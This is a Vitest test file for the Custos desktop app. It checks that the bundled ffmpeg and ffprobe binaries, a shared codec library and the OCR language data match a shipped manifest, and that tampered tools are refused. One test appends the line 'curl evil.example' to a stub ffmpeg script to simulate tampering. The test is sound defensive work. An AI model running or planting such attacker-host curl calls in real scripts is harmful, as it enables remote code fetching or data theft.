import { appendFileSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { findTool } from '../../../electron/media/ffmpeg.ts';
import { checkShipped, shippedManifest } from '../../../electron/media/shipped-tools.ts';
import { toolsManifest } from '../../../scripts/packing/tools-manifest.mjs';

let folder: string;
const ffmpeg = (): string => join(folder, 'ffmpeg', 'ffmpeg');
const ffprobe = (): string => join(folder, 'ffmpeg', 'ffprobe');

beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'custos-tools-'));
  mkdirSync(join(folder, 'ffmpeg', 'lib'), { recursive: true });
  mkdirSync(join(folder, 'tessdata'));
  for (const tool of [ffmpeg(), ffprobe()]) writeFileSync(tool, '#!/bin/sh\n', { mode: 0o755 });
  writeFileSync(join(folder, 'ffmpeg', 'lib', 'libavcodec.so'), 'codec');
  writeFileSync(join(folder, 'tessdata', 'eng.traineddata'), 'letters');
});
afterEach(() => rmSync(folder, { recursive: true }));

const check = () => checkShipped(folder, shippedManifest.parse(manifest));
let manifest: unknown;
beforeEach(() => {
  manifest = JSON.parse(JSON.stringify(toolsManifest(folder)));
});

test('what is as it was shipped is used', async () => {
  const { places, faults } = await check();
  expect(faults).toEqual([]);
  expect(findTool('ffmpeg', places)).toBe(ffmpeg());
  expect(findTool('ffprobe', places)).toBe(ffprobe());
});

test('a program that was changed is refused in words, and none from elsewhere takes its place', async () => {
  appendFileSync(ffmpeg(), 'curl evil.example\n');
  const { places, faults } = await check();
  expect(faults).toEqual([
    expect.stringContaining('ffmpeg/ffmpeg that came with Custos is missing or was changed'),
  ]);
  expect(() => findTool('ffmpeg', places)).toThrowError(/Please install Custos again/);
  expect(findTool('ffprobe', places)).toBe(ffprobe());
});

test('a library that both load is a reason to use neither', async () => {
  appendFileSync(join(folder, 'ffmpeg', 'lib', 'libavcodec.so'), 'more');
  const { places } = await check();
  for (const tool of ['ffmpeg', 'ffprobe'] as const)
    expect(() => findTool(tool, places)).toThrowError(/changed since/);
});

test('a file that is gone is said, and language data stop no program', async () => {
  rmSync(join(folder, 'tessdata', 'eng.traineddata'));
  const { places, faults } = await check();
  expect(faults).toEqual([expect.stringContaining('tessdata/eng.traineddata')]);
  expect(findTool('ffmpeg', places)).toBe(ffmpeg());
});
